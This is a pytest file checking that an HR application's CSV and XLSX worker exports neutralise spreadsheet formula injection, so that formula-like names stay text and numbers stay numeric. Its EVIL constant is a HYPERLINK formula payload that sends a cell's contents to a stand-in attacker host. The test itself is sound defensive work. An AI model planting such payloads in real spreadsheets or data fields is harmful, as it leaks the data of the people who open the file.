"""HR's worker exports: a worker named like a formula stays text in the CSV and the XLSX (issue 13)."""

import csv
import io

from openpyxl import load_workbook

from organisations.models import OrganisationRole
from organisations.services import grant_role
from tests.factories import UserFactory

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Xem chứng chỉ")'


def _hr(client, tree):
    officer = UserFactory()
    grant_role(officer, tree["G1"], OrganisationRole.HR_OFFICER)
    client.force_login(officer)


def test_csv_export_neutralises_formulas(client, tree, make_worker, complete):
    complete(make_worker(tree["G1"], full_name=EVIL, email="@evil.example"))
    _hr(client, tree)
    response = client.get(f"/hr/{tree['G1'].pk}/workers/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    row = next(r for r in rows[1:] if "HYPERLINK" in r[0])
    assert row[0] == "'" + EVIL
    assert float(row[-2]) == 4 and row[-1] == "1"  # hours and completions unchanged


def test_xlsx_export_neutralises_formulas_and_keeps_numbers(client, tree, make_worker, complete):
    complete(make_worker(tree["G1"], full_name=EVIL))
    _hr(client, tree)
    response = client.get(f"/hr/{tree['G1'].pk}/workers/export.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    row = next(r for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[0].value))
    assert row[0].data_type == "s" and row[0].value == "'" + EVIL  # a string, not a formula ("f")
    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
    assert row[-2].data_type == "n" and row[-2].value == 4
